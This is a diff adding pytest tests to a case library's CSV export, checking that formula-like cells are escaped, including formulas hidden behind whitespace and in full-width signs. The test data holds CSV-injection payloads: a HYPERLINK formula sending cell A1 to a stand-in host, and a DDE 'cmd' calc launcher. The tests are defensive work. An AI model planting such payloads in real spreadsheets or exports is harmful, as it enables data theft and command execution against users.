@@ -12,6 +12,7 @@ import copy
 import csv
 import io
 import json
+import shutil
 from dataclasses import replace
 from pathlib import Path
 
@@ -24,7 +25,7 @@ from scripts.check.json_schema import case_schema, schema_file
 from scripts.check.library import load_library
 from scripts.engine.build import data_and_feed
 from scripts.load.settings import Licence, Settings, SettingsError, load_settings
-from scripts.render.open_data import CSV_COLUMNS, FORMULA_START, licence_statement, open_data_files
+from scripts.render.open_data import CSV_COLUMNS, FORMULA_START, licence_statement, open_data_files, would_be_formula
 from tests.conftest import MINIMAL, ROOT
 
 SETTINGS = Settings(site_url="https://casebiblioteket.example/")
@@ -206,6 +207,47 @@ def test_a_cell_that_would_be_a_formula_is_made_text(minimal_library, start):
         assert not value.startswith(FORMULA_START)
     record = next(r for r in json.loads(files["data/cases.json"])["cases"] if r["slug"] == case.slug)
     assert record["title"] == hostile.title  # JSON keeps the raw text
+
+
+# Spreadsheets skip blanks before they read a formula, so the sign after them counts; some read a full-width
+# sign as its ASCII one. A list cell starts with its first item. (Found by the hunt on the new features.)
+@pytest.mark.parametrize("start", [" =", "  +", "\u00a0=", "\u2003-", "\u3000@", "\n=", "\r\n=", " \t=", "\u200b=",
+                                   "\ufeff+", "＝", "＋", "－", "＠", " ＝"])
+def test_a_formula_behind_blanks_or_in_full_width_is_made_text_too(minimal_library, start):
+    case = minimal_library.cases[0]
+    hostile = replace(case, title=f'{start}HYPERLINK("https://angriber.example/?"&A1;"Klik")',
+                      keywords=(f"{start}1+1", "almindeligt"), summary=f"{start}cmd|' /C calc'!A0")
+    library = replace(minimal_library, cases=(hostile, *minimal_library.cases[1:]))
+    row = next(r for r in _csv_rows(open_data_files(library, SETTINGS, True)["data/cases.csv"])
+               if r["slug"] == case.slug)
+    assert row["title"] == "'" + hostile.title
+    assert row["summary"] == "'" + hostile.summary
+    assert row["keywords"] == "'" + "; ".join(hostile.keywords)
+    assert not any(would_be_formula(value) for value in row.values())
+
+
+def test_content_that_make_check_accepts_cannot_start_a_csv_cell_with_a_formula(tmp_path):
+    """Quoted YAML keeps leading blanks in list items, result figures and the source's fields."""
+    content = tmp_path / "content"
+    shutil.copytree(MINIMAL, content)
+    case_file = content / "cases" / "odder-test.md"
+    text = case_file.read_text(encoding="utf-8")
+    text = text.replace("keywords: [styring]", 'keywords: [" -1+1", "styring"]')
+    text = text.replace('  - figure: "9"\n    measure: workshops', '  - figure: " =9"\n    measure: workshops')
+    text = text.replace("  - Hvad ville I gøre?", '  - "\\u00a0=SUM(1)"', 1)
+    case_file.write_text(text, encoding="utf-8")
+    sources = content / "sources.yml"
+    sources.write_text(sources.read_text(encoding="utf-8").replace("  title: En testkilde", '  title: " =En testkilde"'),
+                       encoding="utf-8")
+    library, problems = load_library(content)
+    assert library is not None, problems
+    rows = _csv_rows(open_data_files(library, SETTINGS, True)["data/cases.csv"])
+    row = next(r for r in rows if r["slug"] == "odder-test")
+    assert row["keywords"] == "' -1+1; styring"
+    assert row["results"] == "' =9: workshops"
+    assert row["reflection_questions"].startswith("'\u00a0=SUM(1)")
+    assert row["source_title"].startswith("' =En testkilde")
+    assert not any(would_be_formula(value) for row in rows for value in row.values())
 
 
 def test_the_vocabulary_file_is_content_vocabulary_yml(real_library):
